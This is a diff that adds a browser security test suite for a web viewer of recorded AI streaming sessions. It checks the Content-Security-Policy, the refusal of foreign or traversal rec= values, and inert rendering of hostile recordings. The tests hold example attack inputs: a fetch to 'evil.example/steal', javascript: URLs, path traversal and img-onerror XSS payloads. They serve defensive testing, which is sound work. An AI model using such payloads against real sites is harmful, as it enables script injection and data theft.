@@ -1,0 +1,205 @@
+// Safety of the built pages, in Chromium: the Content-Security-Policy on index.html and embed.html (no eval, no
+// inline script, scripts from self only); rec= values that are not this site's recordings or an allowed origin are
+// refused without a request; hostile recordings (HTML and </script> everywhere, right-to-left overrides, a 1 MB
+// single line) are inert: nothing executes, nothing hangs, the layout holds.
+import { readFileSync } from 'node:fs';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import type { Browser, Page } from 'playwright-core';
+import { appUrl, launch, watchErrors } from './browser';
+import { anthropicEvents, jsonlText, sseText } from './files-fixtures';
+
+let browser: Browser;
+beforeAll(async () => {
+  browser = await launch();
+});
+afterAll(async () => {
+  await browser.close();
+});
+
+const ready = (page: Page) => page.locator('input[type=range]:not([disabled])').waitFor();
+
+/** The directives of the CSP meta tag of a built page, as {name: [values]}. */
+async function cspOf(path: string): Promise<Record<string, string[]>> {
+  const html = await (await fetch(appUrl(path))).text();
+  const m = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
+  if (!m) throw new Error(`${path}: no CSP meta tag`);
+  return Object.fromEntries(
+    m[1]!
+      .split(';')
+      .map((d) => d.trim().split(/\s+/))
+      .map(([name, ...values]) => [name!, values]),
+  );
+}
+
+test.each(['index.html', 'embed.html'])('%s carries a CSP: scripts from self only, no eval, no inline script, no plugins', async (path) => {
+  const csp = await cspOf(path);
+  expect(csp['script-src']).toEqual(["'self'"]);
+  expect(csp['object-src']).toEqual(["'none'"]);
+  expect(csp['base-uri']).toEqual(["'self'"]);
+  expect(csp['default-src']).toEqual(["'self'"]);
+  for (const values of Object.values(csp)) expect(values).not.toContain("'unsafe-eval'");
+  // connect-src: only self (plus the build-time allowlist, empty in this build)
+  expect(csp['connect-src']).toEqual(["'self'"]);
+});
+
+test.each(['?lang=en', 'embed.html?lang=en'])('the CSP of %s blocks an injected inline script, eval and a foreign fetch', async (path) => {
+  const page = await browser.newPage();
+  const violations: string[] = [];
+  page.on('console', (m) => {
+    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
+  });
+  await page.goto(appUrl(path));
+  await ready(page);
+  const outcome = await page.evaluate(async () => {
+    const w = window as unknown as { __injected?: number };
+    const s = document.createElement('script');
+    s.textContent = 'window.__injected = 1';
+    document.head.appendChild(s);
+    let evalError = '';
+    try {
+      (0, eval)('1 + 1');
+    } catch (e) {
+      evalError = (e as Error).name;
+    }
+    let fetchError = '';
+    try {
+      await fetch('https://evil.example/steal');
+    } catch (e) {
+      fetchError = (e as Error).name;
+    }
+    return { injected: w.__injected ?? null, evalError, fetchError };
+  });
+  expect(outcome).toEqual({ injected: null, evalError: 'EvalError', fetchError: 'TypeError' });
+  expect(violations.some((v) => /inline script/i.test(v))).toBe(true);
+  await page.close();
+});
+
+test.each([
+  ['https://evil.example/x.jsonl', 'evil.example'],
+  ['//evil.example/x.jsonl', 'evil.example'],
+  ['../../outside.jsonl', 'outside.jsonl'],
+  ['javascript:alert(1)', 'alert'],
+])('rec=%s is refused in words and never requested', async (rec, needle) => {
+  const page = await browser.newPage();
+  const requests: string[] = [];
+  page.on('request', (r) => requests.push(r.url()));
+  const dialogs: string[] = [];
+  page.on('dialog', (d) => {
+    dialogs.push(d.message());
+    void d.dismiss();
+  });
+  await page.goto(appUrl(`?lang=en&rec=${encodeURIComponent(rec)}`));
+  const alert = page.getByRole('alert').filter({ hasText: `Not loading “${rec}”` });
+  await alert.waitFor();
+  await expect(alert.textContent()).resolves.toContain('rec= opens only this site’s recordings');
+  await page.waitForTimeout(300);
+  expect(requests.filter((u) => u.includes(needle))).toEqual([]);
+  expect(dialogs).toEqual([]);
+  // the same in an embed
+  await page.goto(appUrl(`embed.html?lang=en&rec=${encodeURIComponent(rec)}`));
+  await page.getByRole('alert').filter({ hasText: `Not loading “${rec}”` }).waitFor();
+  expect(requests.filter((u) => u.includes(needle))).toEqual([]);
+  await page.close();
+});
+
+test('rec= a relative path under recordings/ loads that file', async () => {
+  const page = await browser.newPage();
+  const errors = watchErrors(page);
+  await page.goto(appUrl('?lang=en&rec=agent-run.jsonl'));
+  await ready(page);
+  await page.getByRole('radiogroup', { name: 'Assembly strategy' }).waitFor();
+  expect(errors).toEqual([]);
+  await page.close();
+});
+
+/** Opens `text` as `name` through the file input and checks the page stays inert and laid out. */
+async function openHostile(name: string, text: string | Buffer, viewport = { width: 1280, height: 900 }) {
+  const page = await browser.newPage({ viewport });
+  const errors = watchErrors(page);
+  const dialogs: string[] = [];
+  page.on('dialog', (d) => {
+    dialogs.push(d.message());
+    void d.dismiss();
+  });
+  const requests: string[] = [];
+  page.on('request', (r) => requests.push(r.url()));
+  await page.goto(appUrl('?lang=en'));
+  await ready(page);
+  const started = Date.now();
+  await page.getByLabel('Open recording', { exact: true }).setInputFiles({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });
+  await page.waitForFunction((n) => (document.querySelector('.ss-picker select') as HTMLSelectElement | null)?.value === `file:${n}`, name);
+  await ready(page);
+  const loadMs = Date.now() - started;
+  // walk every frame quickly, each strategy, compare view: nothing may run
+  const slider = page.getByRole('slider', { name: 'Frame', exact: true });
+  await slider.focus();
+  await page.keyboard.press('End');
+  for (const label of ['Parse every fragment', 'One shared buffer', 'One buffer per call', 'Partial JSON preview']) {
+    const radio = page.getByRole('radio', { name: label, exact: true });
+    if (await radio.isEnabled()) await radio.check();
+  }
+  await slider.focus();
+  for (let i = 0; i < 12; i++) await page.keyboard.press('ArrowLeft');
+  await page.getByRole('checkbox', { name: 'Compare strategies' }).check();
+  await page.waitForTimeout(300);
+  const state = await page.evaluate(() => ({
+    pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
+    imgs: document.querySelectorAll('img').length,
+    svgOnload: document.querySelectorAll('[onload],[onerror]').length,
+    scripts: [...document.scripts].map((s) => s.src || 'inline'),
+    overflowX: document.documentElement.scrollWidth - window.innerWidth,
+  }));
+  return { page, errors, dialogs, requests, state, loadMs };
+}
+
+const expectInert = (r: Awaited<ReturnType<typeof openHostile>>) => {
+  expect(r.dialogs).toEqual([]);
+  expect(r.state.pwned).toBeNull();
+  expect(r.state.imgs).toBe(0);
+  expect(r.state.svgOnload).toBe(0);
+  expect(r.state.scripts.every((s) => s !== 'inline' && new URL(s).origin === new URL(appUrl()).origin)).toBe(true);
+  expect(r.requests.filter((u) => !u.startsWith(new URL(appUrl()).origin) && !u.startsWith('blob:') && !u.startsWith('data:'))).toEqual([]);
+  expect(r.state.overflowX).toBeLessThanOrEqual(0);
+  expect(r.errors).toEqual([]);
+};
+
+test('HTML and </script> in every recorded string render as text, and nothing runs', async () => {
+  const text = readFileSync('test/fixtures/hostile/html-everywhere.jsonl', 'utf8');
+  const r = await openHostile('html-everywhere.jsonl', text);
+  expectInert(r);
+  // shown as the characters it is made of
+  await r.page.getByText('<img src=x onerror="window.__pwned=1;alert(1)"> title').first().waitFor();
+  // the provenance link to javascript: is not a link
+  await expect(r.page.locator('a[href^="javascript:"]').count()).resolves.toBe(0);
+  await r.page.close();
+});
+
+test('right-to-left overrides stay inside the recorded strings: nothing runs, the layout holds', async () => {
+  const text = readFileSync('test/fixtures/hostile/rtl-override.sse', 'utf8');
+  const r = await openHostile('rtl-override.sse', text);
+  expectInert(r);
+  // the app's own words after a recorded string are not reversed: the frame's text for the slider is intact
+  const valuetext = await r.page.getByRole('slider', { name: 'Frame', exact: true }).getAttribute('aria-valuetext');
+  expect(valuetext).toMatch(/^Frame \d+ of \d+, /);
+  await r.page.close();
+});
+
+test.each([
+  ['one-mb-args.jsonl', () => jsonlText(sseText(anthropicEvents([['{"blob": "', 'x'.repeat(1 << 20) + '"}'], ['{"a":', '1}']])))],
+  ['one-mb-line.sse', () => `data: ${'<img src=x onerror=alert(1)>'.repeat(Math.ceil((1 << 20) / 28))}\n\n${sseText()}`],
+])('a 1 MB single line (%s) loads without hanging and keeps the layout', async (name, make) => {
+  const text = make();
+  expect(text.length).toBeGreaterThan(1 << 20);
+  const r = await openHostile(name, text);
+  expectInert(r);
+  expect(r.loadMs).toBeLessThan(15_000);
+  // still responsive: a step is reflected at once
+  const slider = r.page.getByRole('slider', { name: 'Frame', exact: true });
+  await slider.focus();
+  await r.page.keyboard.press('Home');
+  const t0 = Date.now();
+  await r.page.keyboard.press('ArrowRight');
+  await r.page.waitForFunction(() => (document.querySelector('input[type=range]') as HTMLInputElement).value === '1');
+  expect(Date.now() - t0).toBeLessThan(2_000);
+  await r.page.close();
+});
